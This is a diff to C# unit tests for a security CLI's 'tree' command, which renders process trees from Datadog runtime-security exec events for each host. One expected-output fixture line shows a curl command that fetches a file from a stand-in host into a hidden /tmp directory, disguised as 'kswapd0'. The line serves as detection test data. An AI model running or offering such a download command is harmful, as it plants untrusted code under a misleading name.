@@ -1,5 +1,7 @@
+using System.Collections.Generic;
 using System.IO;
 using System.Linq;
+using CsmEvents.Tests.Datadog;
 using CsmEvents.Tests.Support;
 
 namespace CsmEvents.Tests.Cli;
@@ -27,6 +29,34 @@ public class TreeCommandTests
             "               └─ sh (24313) [thread]: /usr/bin/dash",
             "                  └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0",
         }, run.StdoutLines);
+    }
+
+    /// <summary>A log record of the Datadog API: an exec event of pid 4242 whose parent is pid 100.</summary>
+    private static string LogOnHost(string id, string host, string comm, string parentComm) =>
+        "{\"id\":\"" + id + "\",\"type\":\"log\",\"attributes\":{\"attributes\":{\"agent\":{\"rule_id\":\"r\",\"os\":\"linux\"}," +
+        "\"evt\":{\"name\":\"exec\"},\"date\":\"2024-05-01T12:00:00Z\",\"process\":{\"pid\":4242,\"ppid\":100,\"comm\":\"" + comm + "\"," +
+        "\"parent\":{\"pid\":100,\"ppid\":1,\"comm\":\"" + parentComm + "\"}}},\"host\":\"" + host + "\",\"service\":\"runtime-security-agent\"," +
+        "\"timestamp\":\"2024-05-01T12:00:00.000Z\"}}";
+
+    [Fact]
+    public void ReadsTheDatadogApiAndKeepsEachHostsTreeApart()
+    {
+        string page = "{\"data\":[" + LogOnHost("A1", "web-1", "id", "bash") + "," + LogOnHost("A2", "web-2", "curl", "sshd") + "],\"meta\":{\"page\":{},\"status\":\"done\"}}";
+        using var server = new LoopbackServer(ScriptedResponse.Ok(page));
+        var keys = new Dictionary<string, string> { ["DD_API_KEY"] = "api-key-0123456789abcdef", ["DD_APP_KEY"] = "app-key-fedcba9876543210" };
+        var run = CliRun.Run(new[] { "tree", "--query", "@evt.name:exec", "--api-url", server.BaseUrl }, environment: keys);
+        Assert.Equal("", run.Stderr);
+        Assert.Equal(0, run.ExitCode);
+        Assert.Equal(new[]
+        {
+            "host: web-1",
+            "bash (100) [orphan]",
+            "└─ id (4242) 1 event",
+            "host: web-2",
+            "sshd (100) [orphan]",
+            "└─ curl (4242) 1 event",
+        }, run.StdoutLines);
+        Assert.Equal("source:runtime-security-agent (@evt.name:exec)", server.Requests[0].Json.GetProperty("filter").GetProperty("query").GetString());
     }
 
     [Fact]
